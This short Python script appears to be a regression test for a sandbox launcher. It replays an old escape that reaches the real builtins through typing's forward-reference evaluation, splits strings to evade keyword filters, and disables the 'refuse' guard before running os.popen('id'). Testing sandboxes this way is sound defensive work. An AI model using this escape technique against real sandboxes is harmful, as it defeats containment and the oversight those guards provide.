# launcher: the old attack: rebind refuse in the launcher's globals (now bound in the closure)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

gi = rb["glob" + "als"]()["__buil" + "tins__"]["__imp" + "ort__"]
ga(gi, "__glob" + "als__")["refuse"] = lambda what: None
try:
    print(M, gi("o" + "s").popen("id").read())
except Exception as e:
    print("refused:", type(e).__name__, e)
